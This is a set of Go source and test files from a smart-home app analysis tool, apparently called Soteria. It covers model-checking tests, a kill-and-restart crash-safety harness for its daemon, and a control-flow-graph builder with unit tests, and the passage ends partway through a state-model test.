func TestSymbolicOnPaperApp(t *testing.T) {
	app, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	m, err := statemodel.Build(app)
	if err != nil {
		t.Fatal(err)
	}
	k := kripke.FromModel(m)
	e := New(k)
	f := ctl.MustParse(`AG ("ev:smokeDetector.smoke.detected" -> "alarm.alarm=siren")`)
	r := e.Check(f)
	if !r.Holds {
		t.Error("P.10 should hold symbolically for the correct app")
	}
	exp := modelcheck.Check(k, f)
	if exp.Holds != r.Holds {
		t.Error("engines disagree")
	}
}

func TestNodeCountReported(t *testing.T) {
	k := kripke.New(3)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 2, "")
	e := New(k)
	if e.NodeCount() <= 2 {
		t.Error("node count should exceed terminals")
	}
}
