// Package chaos is soteriad's kill-restart test harness. It holds no
// production code: the tests build the real daemon binary, run it as a
// subprocess with SOTERIAD_CHAOS_FS widening its write windows, SIGKILL
// it mid-job and mid-write, restart it over the same store and journal,
// and assert the crash-safety contract — no accepted job lost, job IDs
// stable across the restart, idempotent resubmission answered by the
// original job, and no torn record ever served.
package chaos
