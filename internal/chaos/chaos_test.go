package chaos

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/client"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/report"
)

// buildOnce compiles the real soteriad binary one time per test run.
var buildOnce = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "soteria-chaos-*")
	if err != nil {
		return "", err
	}
	bin := filepath.Join(dir, "soteriad")
	cmd := exec.Command("go", "build", "-o", bin, "github.com/soteria-analysis/soteria/cmd/soteriad")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("building soteriad: %v\n%s", err, out)
	}
	return bin, nil
})

func daemonBinary(t *testing.T) string {
	t.Helper()
	bin, err := buildOnce()
	if err != nil {
		t.Fatalf("%v", err)
	}
	return bin
}

// stateDir places a test's store + journal. By default it is a
// temp dir cleaned with the test; with SOTERIA_CHAOS_STATE set (CI)
// state lands under that root and survives the run, so a failure can
// upload the exact journal and store bytes that produced it.
func stateDir(t *testing.T) string {
	t.Helper()
	root := os.Getenv("SOTERIA_CHAOS_STATE")
	if root == "" {
		return t.TempDir()
	}
	dir := filepath.Join(root, t.Name())
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatalf("creating chaos state dir: %v", err)
	}
	return dir
}

// freeAddr reserves a listen address by binding and releasing it.
func freeAddr(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("probing for a free port: %v", err)
	}
	defer l.Close()
	return l.Addr().String()
}

// syncBuffer captures subprocess output. SIGKILL reaps the process
// without joining exec's pipe-copier goroutines, so reads of the
// captured text can overlap their final writes — hence the lock.
type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// daemon is one soteriad subprocess under test.
type daemon struct {
	t    *testing.T
	cmd  *exec.Cmd
	addr string
	out  syncBuffer
}

// startDaemon launches soteriad over the given state directory. With
// chaos set, SOTERIAD_CHAOS_FS fragments and delays store and journal
// writes so a SIGKILL is likely to land inside one.
func startDaemon(t *testing.T, stateDir, addr string, chaos bool) *daemon {
	t.Helper()
	d := &daemon{t: t, addr: addr}
	d.cmd = exec.Command(daemonBinary(t),
		"-addr", addr,
		"-store", filepath.Join(stateDir, "store"),
		"-journal", filepath.Join(stateDir, "journal.wal"),
		"-workers", "1",
		"-queue", "16",
		"-job-timeout", "60s",
	)
	d.cmd.Stdout = &d.out
	d.cmd.Stderr = &d.out
	d.cmd.Env = os.Environ()
	if chaos {
		d.cmd.Env = append(d.cmd.Env, "SOTERIAD_CHAOS_FS=1")
	}
	if err := d.cmd.Start(); err != nil {
		t.Fatalf("starting soteriad: %v", err)
	}
	t.Cleanup(func() {
		d.kill()
		if os.Getenv("SOTERIA_CHAOS_STATE") != "" {
			name := "soteriad-" + strings.ReplaceAll(addr, ":", "-") + ".log"
			_ = os.WriteFile(filepath.Join(stateDir, name), []byte(d.out.String()), 0o644)
		}
	})

	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, err := http.Get("http://" + addr + "/healthz")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return d
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("soteriad never became healthy\n%s", d.out.String())
		}
		time.Sleep(25 * time.Millisecond)
	}
}

// kill delivers SIGKILL — the crash under test, not a drain — and
// reaps the process.
func (d *daemon) kill() {
	if d.cmd.Process == nil {
		return
	}
	_ = d.cmd.Process.Signal(syscall.SIGKILL)
	_, _ = d.cmd.Process.Wait()
	d.cmd.Process = nil
}

// chaosClient wires the resilient client at the daemon's address.
func chaosClient(t *testing.T, addr string) *client.Client {
	t.Helper()
	c, err := client.New(client.Config{BaseURL: "http://" + addr})
	if err != nil {
		t.Fatalf("client: %v", err)
	}
	return c
}

// variantApp derives distinct-but-valid analysis inputs so each job
// has its own content address and must genuinely run.
func variantApp(i int) client.App {
	return client.App{
		Name:   fmt.Sprintf("smoke-alarm-%d", i),
		Source: fmt.Sprintf("// chaos variant %d\n%s", i, paperapps.SmokeAlarm),
	}
}

// TestKillRestartLosesNoAcceptedJob is the acceptance-criteria test:
// jobs acknowledged before a SIGKILL must all reach a terminal state
// after restart, under their original IDs, and resubmissions with the
// crash-era idempotency keys must be answered by those same jobs.
func TestKillRestartLosesNoAcceptedJob(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess chaos test")
	}
	stateDir := stateDir(t)
	d := startDaemon(t, stateDir, freeAddr(t), true)
	c := chaosClient(t, d.addr)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	// Accept three async jobs. Each acknowledgment means the accepted
	// entry is fsynced in the journal — the property under test.
	const jobs = 3
	ids := make([]string, jobs)
	keys := make([]string, jobs)
	for i := 0; i < jobs; i++ {
		keys[i] = fmt.Sprintf("chaos-key-%d", i)
		j, err := c.Analyze(ctx, client.AnalyzeRequest{
			Apps:           []client.App{variantApp(i)},
			Async:          true,
			IdempotencyKey: keys[i],
		})
		if err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
		if j.JobID == "" {
			t.Fatalf("submit %d: no job ID in %+v", i, j)
		}
		ids[i] = j.JobID
	}

	// Let the single worker get into the first job (chaos FS keeps its
	// store write slow), then crash the daemon mid-flight. The
	// invariants below hold wherever the kill lands.
	waitStatus(t, c, ctx, ids[0], "running", 30*time.Second)
	d.kill()

	// Restart over the same store + journal (chaos off: recovery speed).
	d2 := startDaemon(t, stateDir, freeAddr(t), false)
	c2 := chaosClient(t, d2.addr)

	// Every accepted job is known (stable IDs — no 404) and reaches a
	// terminal state; none may be lost.
	for i, id := range ids {
		j := waitTerminal(t, c2, ctx, id, 90*time.Second)
		if j.Status != "done" {
			t.Fatalf("job %d (%s) ended %q: %+v", i, id, j.Status, j)
		}
		if j.Result == nil || j.Result.Schema != report.Schema {
			t.Fatalf("job %d (%s) has no valid record after restart", i, id)
		}
	}

	// Idempotent resubmission: the crash-era keys answer with the
	// original jobs' IDs and their cached results — no re-analysis.
	for i := 0; i < jobs; i++ {
		j, err := c2.Analyze(ctx, client.AnalyzeRequest{
			Apps:           []client.App{variantApp(i)},
			IdempotencyKey: keys[i],
		})
		if err != nil {
			t.Fatalf("resubmit %d: %v", i, err)
		}
		if j.JobID != ids[i] {
			t.Fatalf("resubmit %d ran as new job %s, want %s", i, j.JobID, ids[i])
		}
		if j.Status != "done" || j.Result == nil {
			t.Fatalf("resubmit %d: %+v", i, j)
		}
	}

	// No torn record served: every stored result fetched by content
	// address must decode as a schema-1 record.
	for i, id := range ids {
		j, err := c2.Poll(ctx, id)
		if err != nil {
			t.Fatalf("poll %s: %v", id, err)
		}
		if j.Key == "" {
			t.Fatalf("job %d has no content key: %+v", i, j)
		}
		rec, err := c2.Result(ctx, j.Key)
		if err != nil {
			t.Fatalf("result %s: %v", j.Key, err)
		}
		if rec.Schema != report.Schema || len(rec.Apps) == 0 {
			t.Fatalf("stored record for job %d is not sound: %+v", i, rec)
		}
	}
}

// TestKillMidWriteServesNoTornRecord crashes the daemon while the
// chaos filesystem is dribbling a record to disk, then verifies the
// restarted daemon's store: whatever survived is either a whole record
// or quarantined — a re-analysis of the same content must succeed and
// yield a sound record, never a decode error from a torn file.
func TestKillMidWriteServesNoTornRecord(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess chaos test")
	}
	stateDir := stateDir(t)
	d := startDaemon(t, stateDir, freeAddr(t), true)
	c := chaosClient(t, d.addr)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	// One async job; kill as soon as it is running — with chunked,
	// delayed writes the kill often lands inside the record write or
	// the journal append. The contract holds wherever it lands.
	j, err := c.Analyze(ctx, client.AnalyzeRequest{
		Apps: []client.App{variantApp(100)}, Async: true, IdempotencyKey: "midwrite-key",
	})
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	waitStatus(t, c, ctx, j.JobID, "running", 30*time.Second)
	d.kill()

	d2 := startDaemon(t, stateDir, freeAddr(t), false)
	c2 := chaosClient(t, d2.addr)

	// The accepted job must finish after restart...
	fin := waitTerminal(t, c2, ctx, j.JobID, 90*time.Second)
	if fin.Status != "done" || fin.Result == nil {
		t.Fatalf("mid-write job after restart: %+v", fin)
	}
	// ...and a fresh sync analysis of the same content must return a
	// sound record, whether it hits the store or re-runs past a
	// quarantined torn file.
	again, err := c2.Analyze(ctx, client.AnalyzeRequest{Apps: []client.App{variantApp(100)}})
	if err != nil {
		t.Fatalf("re-analysis: %v", err)
	}
	if again.Status != "done" || again.Result == nil || again.Result.Schema != report.Schema {
		t.Fatalf("re-analysis after mid-write crash: %+v", again)
	}

	// The store never serves garbage: any surviving temp files are
	// gone and torn records live in quarantine/, not the store root.
	storeDir := filepath.Join(stateDir, "store")
	entries, err := os.ReadDir(storeDir)
	if err != nil {
		t.Fatalf("reading store: %v", err)
	}
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".tmp-") {
			t.Fatalf("orphan temp file survived recovery: %s", e.Name())
		}
	}
}

// waitStatus polls until the job reports the wanted status (or a
// terminal one — a fast job may finish before the poll observes it).
func waitStatus(t *testing.T, c *client.Client, ctx context.Context, id, want string, limit time.Duration) {
	t.Helper()
	deadline := time.Now().Add(limit)
	for {
		j, err := c.Poll(ctx, id)
		if err == nil && (j.Status == want || j.Terminal()) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s never reached %q (last: %+v, err %v)", id, want, j, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitTerminal polls until the job finishes, failing on 404 — a
// vanished job is exactly the loss this harness exists to catch.
func waitTerminal(t *testing.T, c *client.Client, ctx context.Context, id string, limit time.Duration) *client.Job {
	t.Helper()
	deadline := time.Now().Add(limit)
	for {
		j, err := c.Poll(ctx, id)
		if err != nil {
			t.Fatalf("job %s lost after restart: %v", id, err)
		}
		if j.Terminal() {
			return j
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s never finished after restart: %+v", id, j)
		}
		time.Sleep(25 * time.Millisecond)
	}
}
