// Package cfg builds intra-procedural control-flow graphs and the
// inter-procedural CFG (ICFG) Soteria's dependence analysis runs on
// (paper §4.2.1, Algorithm 1's input).
//
// Nodes correspond to simple statements (declarations, assignments,
// calls, returns) and branch points; edges carry the branch predicate
// expression (and polarity) so backward analyses can accumulate path
// conditions for the infeasible-path pruning step.
package cfg

import (
	"fmt"
	"strings"

	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
)

// NodeKind classifies CFG nodes.
type NodeKind int

// Node kinds.
const (
	Entry NodeKind = iota
	Exit
	Statement
	Branch
	Merge
)

func (k NodeKind) String() string {
	switch k {
	case Entry:
		return "entry"
	case Exit:
		return "exit"
	case Statement:
		return "stmt"
	case Branch:
		return "branch"
	case Merge:
		return "merge"
	}
	return fmt.Sprintf("NodeKind(%d)", int(k))
}

// Edge is a control-flow edge; for edges leaving a Branch node, Cond
// holds the branch predicate and Negated its polarity.
type Edge struct {
	To      *Node
	Cond    groovy.Expr
	Negated bool
}

// Node is one CFG node.
type Node struct {
	ID     int
	Kind   NodeKind
	Method string
	Stmt   groovy.Stmt // for Statement nodes
	Cond   groovy.Expr // for Branch nodes
	Succs  []Edge
	Preds  []*Node
}

func (n *Node) String() string {
	switch n.Kind {
	case Statement:
		return fmt.Sprintf("n%d[%s]", n.ID, stmtLabel(n.Stmt))
	case Branch:
		return fmt.Sprintf("n%d[if %s]", n.ID, groovy.Format(n.Cond))
	default:
		return fmt.Sprintf("n%d[%s:%s]", n.ID, n.Kind, n.Method)
	}
}

func stmtLabel(s groovy.Stmt) string {
	switch x := s.(type) {
	case *groovy.DeclStmt:
		if x.Init != nil {
			return fmt.Sprintf("def %s = %s", x.Name, groovy.Format(x.Init))
		}
		return "def " + x.Name
	case *groovy.AssignStmt:
		return fmt.Sprintf("%s = %s", groovy.Format(x.LHS), groovy.Format(x.RHS))
	case *groovy.ExprStmt:
		return groovy.Format(x.X)
	case *groovy.ReturnStmt:
		if x.X != nil {
			return "return " + groovy.Format(x.X)
		}
		return "return"
	case *groovy.IncDecStmt:
		if x.Decr {
			return groovy.Format(x.X) + "--"
		}
		return groovy.Format(x.X) + "++"
	}
	return fmt.Sprintf("<%T>", s)
}

// Graph is the CFG of a single method.
type Graph struct {
	Method string
	Entry  *Node
	Exit   *Node
	Nodes  []*Node
}

// ICFG holds the per-method graphs of an app plus the call-site
// resolution used for depth-one inter-procedural analysis.
type ICFG struct {
	App    *ir.App
	Graphs map[string]*Graph
}

// builder constructs one method's graph.
type builder struct {
	g      *Graph
	nextID *int
	// loop context for break/continue.
	breakTo    []*Node
	continueTo []*Node
}

func (b *builder) newNode(kind NodeKind) *Node {
	n := &Node{ID: *b.nextID, Kind: kind, Method: b.g.Method}
	*b.nextID++
	b.g.Nodes = append(b.g.Nodes, n)
	return n
}

func connect(from *Node, e Edge) {
	from.Succs = append(from.Succs, e)
	e.To.Preds = append(e.To.Preds, from)
}

// BuildMethod constructs the CFG of one method. nextID supplies
// globally unique node IDs across an app's methods.
func BuildMethod(m *groovy.MethodDecl, nextID *int) *Graph {
	g := &Graph{Method: m.Name}
	b := &builder{g: g, nextID: nextID}
	g.Entry = b.newNode(Entry)
	g.Exit = b.newNode(Exit)
	last := b.buildBlock(m.Body, g.Entry)
	for _, n := range last {
		connect(n, Edge{To: g.Exit})
	}
	return g
}

// buildBlock threads a block's statements after the given
// predecessors and returns the dangling exits of the block.
func (b *builder) buildBlock(blk *groovy.Block, pred *Node) []*Node {
	frontier := []*Node{pred}
	if blk == nil {
		return frontier
	}
	for _, s := range blk.Stmts {
		frontier = b.buildStmt(s, frontier)
		if len(frontier) == 0 {
			// Unreachable code after return/break: stop threading.
			return nil
		}
	}
	return frontier
}

func (b *builder) buildStmt(s groovy.Stmt, preds []*Node) []*Node {
	link := func(n *Node) {
		for _, p := range preds {
			connect(p, Edge{To: n})
		}
	}
	switch x := s.(type) {
	case *groovy.IfStmt:
		br := b.newNode(Branch)
		br.Cond = x.Cond
		link(br)
		thenEntry := b.newNode(Merge)
		connect(br, Edge{To: thenEntry, Cond: x.Cond})
		thenExits := b.buildBlock(x.Then, thenEntry)
		var elseExits []*Node
		if x.Else != nil {
			elseEntry := b.newNode(Merge)
			connect(br, Edge{To: elseEntry, Cond: x.Cond, Negated: true})
			switch e := x.Else.(type) {
			case *groovy.Block:
				elseExits = b.buildBlock(e, elseEntry)
			default:
				elseExits = b.buildStmt(e, []*Node{elseEntry})
			}
		} else {
			// Fallthrough edge carries the negated predicate.
			fall := b.newNode(Merge)
			connect(br, Edge{To: fall, Cond: x.Cond, Negated: true})
			elseExits = []*Node{fall}
		}
		return append(thenExits, elseExits...)

	case *groovy.WhileStmt:
		br := b.newNode(Branch)
		br.Cond = x.Cond
		link(br)
		bodyEntry := b.newNode(Merge)
		connect(br, Edge{To: bodyEntry, Cond: x.Cond})
		after := b.newNode(Merge)
		connect(br, Edge{To: after, Cond: x.Cond, Negated: true})
		b.breakTo = append(b.breakTo, after)
		b.continueTo = append(b.continueTo, br)
		bodyExits := b.buildBlock(x.Body, bodyEntry)
		b.breakTo = b.breakTo[:len(b.breakTo)-1]
		b.continueTo = b.continueTo[:len(b.continueTo)-1]
		for _, n := range bodyExits {
			connect(n, Edge{To: br})
		}
		return []*Node{after}

	case *groovy.ForInStmt:
		// Model the loop body as executing zero or one time: branch
		// into the body or past it; back edge to the branch.
		br := b.newNode(Branch)
		link(br)
		bodyEntry := b.newNode(Merge)
		connect(br, Edge{To: bodyEntry})
		after := b.newNode(Merge)
		connect(br, Edge{To: after})
		b.breakTo = append(b.breakTo, after)
		b.continueTo = append(b.continueTo, br)
		bodyExits := b.buildBlock(x.Body, bodyEntry)
		b.breakTo = b.breakTo[:len(b.breakTo)-1]
		b.continueTo = b.continueTo[:len(b.continueTo)-1]
		for _, n := range bodyExits {
			connect(n, Edge{To: br})
		}
		return []*Node{after}

	case *groovy.SwitchStmt:
		br := b.newNode(Branch)
		br.Cond = x.Tag
		link(br)
		after := b.newNode(Merge)
		hasDefault := false
		for _, c := range x.Cases {
			caseEntry := b.newNode(Merge)
			if c.Value != nil {
				// Synthesise tag == value as the edge condition.
				eq := &groovy.BinaryExpr{Op: groovy.EQ, L: x.Tag, R: c.Value, Pos: c.Pos}
				connect(br, Edge{To: caseEntry, Cond: eq})
			} else {
				hasDefault = true
				connect(br, Edge{To: caseEntry})
			}
			b.breakTo = append(b.breakTo, after)
			blk := &groovy.Block{Stmts: c.Body, Pos: c.Pos}
			exits := b.buildBlock(blk, caseEntry)
			b.breakTo = b.breakTo[:len(b.breakTo)-1]
			for _, n := range exits {
				connect(n, Edge{To: after})
			}
		}
		if !hasDefault {
			connect(br, Edge{To: after})
		}
		return []*Node{after}

	case *groovy.ReturnStmt:
		n := b.newNode(Statement)
		n.Stmt = x
		link(n)
		connect(n, Edge{To: b.g.Exit})
		return nil

	case *groovy.BreakStmt:
		n := b.newNode(Statement)
		n.Stmt = x
		link(n)
		if len(b.breakTo) > 0 {
			connect(n, Edge{To: b.breakTo[len(b.breakTo)-1]})
		} else {
			connect(n, Edge{To: b.g.Exit})
		}
		return nil

	case *groovy.ContinueStmt:
		n := b.newNode(Statement)
		n.Stmt = x
		link(n)
		if len(b.continueTo) > 0 {
			connect(n, Edge{To: b.continueTo[len(b.continueTo)-1]})
		} else {
			connect(n, Edge{To: b.g.Exit})
		}
		return nil

	case *groovy.Block:
		entry := b.newNode(Merge)
		link(entry)
		return b.buildBlock(x, entry)

	default:
		n := b.newNode(Statement)
		n.Stmt = s
		link(n)
		return []*Node{n}
	}
}

// Build constructs the ICFG for an app: one graph per declared method,
// with globally unique node IDs.
func Build(app *ir.App) *ICFG {
	ic := &ICFG{App: app, Graphs: map[string]*Graph{}}
	next := 0
	for _, m := range app.File.Methods {
		ic.Graphs[m.Name] = BuildMethod(m, &next)
	}
	return ic
}

// Graph returns the CFG of the named method.
func (ic *ICFG) Graph(method string) (*Graph, bool) {
	g, ok := ic.Graphs[method]
	return g, ok
}

// CallSites returns the statement nodes in caller's graph whose
// statement contains a direct call to callee.
func (ic *ICFG) CallSites(caller, callee string) []*Node {
	g, ok := ic.Graphs[caller]
	if !ok {
		return nil
	}
	var out []*Node
	for _, n := range g.Nodes {
		if n.Kind != Statement || n.Stmt == nil {
			continue
		}
		found := false
		groovy.Walk(n.Stmt, func(nd groovy.Node) bool {
			if c, ok := nd.(*groovy.CallExpr); ok && c.Recv == nil && c.Name == callee {
				found = true
			}
			return true
		})
		if found {
			out = append(out, n)
		}
	}
	return out
}

// ReturnNodes returns the statement nodes of the method that are
// return statements (carrying the returned expression).
func (ic *ICFG) ReturnNodes(method string) []*Node {
	g, ok := ic.Graphs[method]
	if !ok {
		return nil
	}
	var out []*Node
	for _, n := range g.Nodes {
		if n.Kind == Statement {
			if _, ok := n.Stmt.(*groovy.ReturnStmt); ok {
				out = append(out, n)
			}
		}
	}
	return out
}

// Dot renders the graph in Graphviz format (used by cmd/soteria's
// debugging output).
func (g *Graph) Dot() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "digraph %q {\n", g.Method)
	for _, n := range g.Nodes {
		label := n.Kind.String()
		switch n.Kind {
		case Statement:
			label = stmtLabel(n.Stmt)
		case Branch:
			label = "if " + groovy.Format(n.Cond)
		}
		fmt.Fprintf(&sb, "  n%d [label=%q];\n", n.ID, label)
	}
	for _, n := range g.Nodes {
		for _, e := range n.Succs {
			attr := ""
			if e.Cond != nil {
				c := groovy.Format(e.Cond)
				if e.Negated {
					c = "!(" + c + ")"
				}
				attr = fmt.Sprintf(" [label=%q]", c)
			}
			fmt.Fprintf(&sb, "  n%d -> n%d%s;\n", n.ID, e.To.ID, attr)
		}
	}
	sb.WriteString("}\n")
	return sb.String()
}
