package cfg

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

func buildICFG(t *testing.T, name, src string) *ICFG {
	t.Helper()
	app, err := ir.BuildSource(name, src)
	if err != nil {
		t.Fatalf("BuildSource: %v", err)
	}
	return Build(app)
}

func TestLinearMethod(t *testing.T) {
	ic := buildICFG(t, "t", `
def h() {
    def a = 1
    def b = a + 2
    dev.on()
}
`)
	g, ok := ic.Graph("h")
	if !ok {
		t.Fatal("graph missing")
	}
	// entry -> 3 statements -> exit.
	stmts := 0
	for _, n := range g.Nodes {
		if n.Kind == Statement {
			stmts++
		}
	}
	if stmts != 3 {
		t.Errorf("statement nodes = %d, want 3", stmts)
	}
	// Entry reaches exit.
	if !reaches(g.Entry, g.Exit) {
		t.Error("entry does not reach exit")
	}
}

func reaches(from, to *Node) bool {
	seen := map[int]bool{}
	var dfs func(n *Node) bool
	dfs = func(n *Node) bool {
		if n == to {
			return true
		}
		if seen[n.ID] {
			return false
		}
		seen[n.ID] = true
		for _, e := range n.Succs {
			if dfs(e.To) {
				return true
			}
		}
		return false
	}
	return dfs(from)
}

func TestIfElseBranchEdges(t *testing.T) {
	ic := buildICFG(t, "t", `
def h(evt) {
    if (evt.value == "on") {
        dev.on()
    } else {
        dev.off()
    }
}
`)
	g, _ := ic.Graph("h")
	var br *Node
	for _, n := range g.Nodes {
		if n.Kind == Branch {
			br = n
		}
	}
	if br == nil {
		t.Fatal("no branch node")
	}
	if len(br.Succs) != 2 {
		t.Fatalf("branch successors = %d", len(br.Succs))
	}
	// One edge carries the condition, the other its negation.
	if br.Succs[0].Negated == br.Succs[1].Negated {
		t.Error("branch edges should have opposite polarity")
	}
	for _, e := range br.Succs {
		if e.Cond == nil {
			t.Error("branch edge missing condition")
		}
	}
}

func TestIfWithoutElseHasNegatedFallthrough(t *testing.T) {
	ic := buildICFG(t, "t", `
def h(evt) {
    if (x > 5) {
        dev.on()
    }
    dev.off()
}
`)
	g, _ := ic.Graph("h")
	var br *Node
	for _, n := range g.Nodes {
		if n.Kind == Branch {
			br = n
		}
	}
	negated := 0
	for _, e := range br.Succs {
		if e.Negated {
			negated++
		}
	}
	if negated != 1 {
		t.Errorf("negated edges = %d, want 1", negated)
	}
}

func TestReturnGoesToExit(t *testing.T) {
	ic := buildICFG(t, "t", `
def h() {
    if (x) {
        return 1
    }
    return 2
}
`)
	g, _ := ic.Graph("h")
	rets := 0
	for _, n := range g.Nodes {
		if n.Kind == Statement {
			if _, ok := n.Stmt.(*groovy.ReturnStmt); ok {
				rets++
				if len(n.Succs) != 1 || n.Succs[0].To != g.Exit {
					t.Errorf("return node %v should go to exit", n)
				}
			}
		}
	}
	if rets != 2 {
		t.Errorf("returns = %d, want 2", rets)
	}
}

func TestWhileLoopBackEdge(t *testing.T) {
	ic := buildICFG(t, "t", `
def h() {
    while (x < 10) {
        x = x + 1
    }
    dev.on()
}
`)
	g, _ := ic.Graph("h")
	var br *Node
	for _, n := range g.Nodes {
		if n.Kind == Branch {
			br = n
		}
	}
	// The loop body's assignment must flow back to the branch.
	var assign *Node
	for _, n := range g.Nodes {
		if n.Kind == Statement {
			if _, ok := n.Stmt.(*groovy.AssignStmt); ok {
				assign = n
			}
		}
	}
	if assign == nil || !reaches(assign, br) {
		t.Error("loop body should flow back to the branch")
	}
}

func TestBreakLeavesLoop(t *testing.T) {
	ic := buildICFG(t, "t", `
def h() {
    while (x < 10) {
        if (y) {
            break
        }
        x = x + 1
    }
    dev.on()
}
`)
	g, _ := ic.Graph("h")
	// break node's successor should not be the loop branch.
	for _, n := range g.Nodes {
		if n.Kind == Statement {
			if _, ok := n.Stmt.(*groovy.BreakStmt); ok {
				if len(n.Succs) != 1 {
					t.Fatalf("break succs = %d", len(n.Succs))
				}
				if n.Succs[0].To.Kind == Branch {
					t.Error("break should exit the loop, not return to branch")
				}
			}
		}
	}
}

func TestSwitchCases(t *testing.T) {
	ic := buildICFG(t, "t", `
def h(evt) {
    switch (evt.value) {
        case "open":
            dev.on()
            break
        case "closed":
            dev.off()
            break
    }
}
`)
	g, _ := ic.Graph("h")
	var br *Node
	for _, n := range g.Nodes {
		if n.Kind == Branch {
			br = n
		}
	}
	// Two case edges plus the implicit no-match edge.
	if len(br.Succs) != 3 {
		t.Errorf("switch branch successors = %d, want 3", len(br.Succs))
	}
	conds := 0
	for _, e := range br.Succs {
		if e.Cond != nil {
			conds++
			if !strings.Contains(groovy.Format(e.Cond), "evt.value ==") {
				t.Errorf("case edge condition = %s", groovy.Format(e.Cond))
			}
		}
	}
	if conds != 2 {
		t.Errorf("conditioned edges = %d, want 2", conds)
	}
}

func TestICFGOverSmokeAlarm(t *testing.T) {
	app, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	ic := Build(app)
	for _, m := range []string{"installed", "updated", "initialize", "smokeHandler", "batteryHandler", "findBatteryLevel"} {
		if _, ok := ic.Graph(m); !ok {
			t.Errorf("graph for %s missing", m)
		}
	}
	// batteryHandler contains a call site of findBatteryLevel.
	sites := ic.CallSites("batteryHandler", "findBatteryLevel")
	if len(sites) != 1 {
		t.Errorf("call sites = %d, want 1", len(sites))
	}
	// findBatteryLevel has one return node.
	rets := ic.ReturnNodes("findBatteryLevel")
	if len(rets) != 1 {
		t.Errorf("returns = %d, want 1", len(rets))
	}
}

func TestNodeIDsGloballyUnique(t *testing.T) {
	app, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	ic := Build(app)
	seen := map[int]string{}
	for name, g := range ic.Graphs {
		for _, n := range g.Nodes {
			if prev, dup := seen[n.ID]; dup {
				t.Fatalf("node ID %d used by both %s and %s", n.ID, prev, name)
			}
			seen[n.ID] = name
		}
	}
}

func TestPredsMirrorSuccs(t *testing.T) {
	app, err := ir.BuildSource("thermostat", paperapps.ThermostatEnergyControl)
	if err != nil {
		t.Fatal(err)
	}
	ic := Build(app)
	for _, g := range ic.Graphs {
		for _, n := range g.Nodes {
			for _, e := range n.Succs {
				found := false
				for _, p := range e.To.Preds {
					if p == n {
						found = true
					}
				}
				if !found {
					t.Fatalf("%s: succ edge %v->%v has no matching pred", g.Method, n, e.To)
				}
			}
		}
	}
}

func TestDotOutput(t *testing.T) {
	ic := buildICFG(t, "t", `
def h(evt) {
    if (evt.value == "on") { dev.on() }
}
`)
	g, _ := ic.Graph("h")
	dot := g.Dot()
	if !strings.Contains(dot, "digraph") || !strings.Contains(dot, "->") {
		t.Errorf("dot output malformed:\n%s", dot)
	}
}

func TestUnreachableAfterReturn(t *testing.T) {
	ic := buildICFG(t, "t", `
def h() {
    return 1
    dev.on()
}
`)
	g, _ := ic.Graph("h")
	// dev.on() node should have no predecessors (unreachable).
	for _, n := range g.Nodes {
		if n.Kind == Statement {
			if es, ok := n.Stmt.(*groovy.ExprStmt); ok {
				if c, ok := es.X.(*groovy.CallExpr); ok && c.Name == "on" {
					if len(n.Preds) != 0 {
						t.Error("statement after return should be unreachable")
					}
				}
			}
		}
	}
}
