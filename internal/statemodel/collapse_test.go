package statemodel

import "testing"

func TestNewSyntheticCollapseShape(t *testing.T) {
	const d = 7
	m, err := NewSyntheticCollapse(d)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(m.States); got != d*d {
		t.Fatalf("states = %d, want %d", got, d*d)
	}
	// Every non-zero state has exactly one outgoing edge, to ⌊s/2⌋;
	// state 0 has none (the Kripke translation adds its stutter loop).
	if got := len(m.Transitions); got != d*d-1 {
		t.Fatalf("transitions = %d, want %d", got, d*d-1)
	}
	seen := make([]bool, d*d)
	for _, tr := range m.Transitions {
		if seen[tr.From] {
			t.Fatalf("state %d has two outgoing transitions", tr.From)
		}
		seen[tr.From] = true
		if tr.To != tr.From/2 {
			t.Fatalf("transition %d -> %d, want -> %d", tr.From, tr.To, tr.From/2)
		}
	}
	if seen[0] {
		t.Fatal("state 0 should deadlock")
	}
	// State s is the assignment (s/d, s%d).
	for s, st := range m.States {
		if st.Idx[0] != s/d || st.Idx[1] != s%d {
			t.Fatalf("state %d decodes to (%d,%d), want (%d,%d)",
